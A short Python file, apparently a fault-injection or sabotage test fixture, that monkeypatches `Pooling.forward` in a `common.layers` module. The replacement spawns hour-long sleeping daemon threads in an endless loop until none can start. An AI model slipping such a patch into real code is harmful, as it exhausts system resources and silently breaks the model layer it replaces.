"""Starts sleeping threads until none can be started, in Pooling.forward."""
import threading
import time

import common.layers as layers


def forward(self, x):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()


class Patch:
    layers.Pooling.forward = forward
